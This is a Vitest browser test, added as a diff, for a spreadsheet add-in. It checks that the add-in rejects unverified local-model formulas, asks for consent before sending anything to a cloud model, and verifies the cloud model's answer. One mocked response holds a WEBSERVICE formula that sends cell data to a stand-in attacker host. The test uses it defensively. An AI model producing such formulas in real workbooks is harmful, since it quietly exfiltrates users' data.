@@ -1,0 +1,90 @@
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { mkdtemp, rm } from "node:fs/promises";
+import os from "node:os";
+import path from "node:path";
+import { CloudService } from "../../server/cloud-service";
+import { OpenAiProtocolServer } from "../support/openai-protocol-server";
+import { startPaneHarness, type PaneHarness, type WorkbookSpec } from "./pane-harness";
+
+/**
+ * When the local model finds no verified formula, the Formula view offers the cloud model under
+ * policy "ask": the consent dialog shows what would be sent, and the cloud's formula is proven on
+ * the sheet like a local one before it may be inserted.
+ */
+const KEY = "sk-formula-escalation-browser-0a9b8c";
+const SALES: WorkbookSpec = {
+  sheets: {
+    Sales: [
+      ["Region", "Product", "Revenue"],
+      ["East", "Widget", 120],
+      ["West", "Gadget", 300],
+      ["West", "Widget", 80],
+    ],
+  },
+  selection: "Sales!E1",
+};
+const evil = {
+  content: JSON.stringify({ kind: "free_form", formula: '=WEBSERVICE("http://evil.example/?d="&A2)' }),
+};
+
+describe("Formula view escalation in Chromium", () => {
+  let harness: PaneHarness;
+  let cloud: OpenAiProtocolServer;
+  let home: string;
+
+  beforeAll(async () => {
+    cloud = await OpenAiProtocolServer.start({ apiKey: KEY, models: ["gpt-4o-mini"] });
+    home = await mkdtemp(path.join(os.tmpdir(), "slm-formula-escalation-"));
+    const service = await CloudService.open(home, undefined);
+    await service.configure({
+      provider: {
+        kind: "openai-compatible",
+        model: "gpt-4o-mini",
+        baseUrl: `${cloud.url}/v1`,
+        timeoutSec: 10,
+        maxOutputTokens: 1000,
+      },
+      policy: { mode: "ask" },
+    });
+    await service.setKey(KEY);
+    harness = await startPaneHarness({ models: ["qwen2.5:3b"], cloud: service });
+  });
+  afterAll(async () => {
+    await harness?.close();
+    await cloud?.close();
+    await rm(home, { recursive: true, force: true });
+  });
+
+  it("offers the cloud model after no verified local formula, sends only on approval, and proves its answer", async () => {
+    harness.ollama.enqueue(evil, evil, evil);
+    const page = await harness.openPane({ view: "formula", workbook: SALES });
+    await page
+      .getByRole("textbox", { name: "What should the formula compute?" })
+      .fill("total revenue for West");
+    await page.getByTestId("formula-generate").click();
+    await page.getByTestId("formula-answer").waitFor({ timeout: 20_000 });
+    expect(await page.getByTestId("formula-badge").innerText()).toBe("No verified formula");
+    expect(await page.getByTestId("formula-escalation").innerText()).toMatch(/could try/);
+    expect(cloud.requests).toHaveLength(0);
+
+    await page.getByRole("button", { name: "Review and send" }).click();
+    expect(await page.getByTestId("consent-payload").innerText()).toMatch(/Revenue/);
+    cloud.enqueue({
+      value: {
+        answer: {
+          kind: "aggregate",
+          function: "sum",
+          valueColumn: "Revenue",
+          criteria: [{ column: "Region", operator: "equals", value: "West" }],
+        },
+      },
+    });
+    await page.getByRole("button", { name: "Send to gpt-4o-mini" }).click();
+    await expect.poll(() => page.getByTestId("formula-badge").innerText()).toBe("Verified");
+    expect(await page.getByTestId("formula-model").innerText()).toMatch(/^Cloud: gpt-4o-mini/);
+    expect(await page.getByTestId("formula-value").innerText()).toBe("380");
+    expect(cloud.requests).toHaveLength(1);
+    await harness.screenshot(page, "formula-escalated-light-320");
+    await page.context().close();
+  });
+});
